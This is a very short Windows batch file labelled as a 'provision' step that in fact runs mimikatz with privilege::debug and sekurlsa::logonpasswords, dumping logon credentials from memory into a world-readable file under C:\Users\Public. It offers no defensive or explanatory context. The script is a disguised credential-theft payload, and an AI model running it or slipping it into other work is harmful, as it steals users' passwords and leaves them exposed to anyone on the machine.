REM provision 3807 v0
@echo off
set mjeb=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\Users\Public\m.txt
call %mjeb%
